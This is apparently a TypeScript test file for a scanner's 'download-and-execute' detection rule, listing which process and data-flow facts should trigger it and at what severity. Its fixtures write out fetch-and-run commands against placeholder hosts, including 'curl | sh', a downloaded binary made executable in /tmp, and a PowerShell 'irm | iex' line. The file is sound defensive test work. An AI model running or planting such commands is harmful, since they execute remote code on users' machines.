import { fact } from '../support/facts.js'
import { casesOf } from '../support/heuristics.js'

const spawn = (command: string, hosts: string[] = []) =>
  fact('process.spawn', command, { command, shell: true, downloads: true, argument: false, hosts })

casesOf('download-and-execute', ({ fires, silent }) => {
  fires(
    'into a shell',
    { before: [], facts: [spawn('curl -fsSL https://giftshop.example/i.sh | sh')] },
    { severity: 'critical' },
  )
  fires(
    'into a shell, since ever',
    { facts: [spawn('curl -fsSL https://giftshop.example/i.sh | sh')] },
    { severity: 'high' },
  )
  fires(
    'made executable',
    { facts: [spawn('curl -s https://giftshop.example/b -o /tmp/b && chmod +x /tmp/b && /tmp/b')] },
    { severity: 'high' },
  )
  fires(
    'by PowerShell',
    { facts: [spawn('powershell -c "irm https://giftshop.example/i.ps1|iex"')] },
    { severity: 'high' },
  )
  fires(
    'by way of a file',
    {
      before: [],
      facts: [
        fact('data.flow', 'net:assets.giftshop.example -> file:{}/.cache-{}.mjs'),
        fact('module.dynamic', '{}', { origin: 'file' }),
      ],
    },
    { severity: 'critical' },
  )
  fires(
    'by way of a program',
    {
      facts: [
        fact('data.flow', 'net:giftshop.example -> file:/tmp/helper'),
        fact('process.spawn', '/tmp/helper --quiet', { command: '/tmp/helper --quiet' }),
      ],
    },
    { severity: 'high' },
  )

  silent('a download alone', { before: [], facts: [spawn('curl -s https://giftshop.example/data.json -o data.json')] })
  silent('a file that is written and not run', {
    before: [],
    facts: [fact('data.flow', 'net:giftshop.example -> file:{}/page.html'), fact('module.dynamic', '{}')],
  })
  silent('a program', { before: [], facts: [spawn('git log')] })
  silent(
    "the vendor's installer, since ever",
    { facts: [spawn('curl -fsSL https://get.tallybird.example/i.sh | sh', ['get.tallybird.example'])] },
    'medium',
  )
})
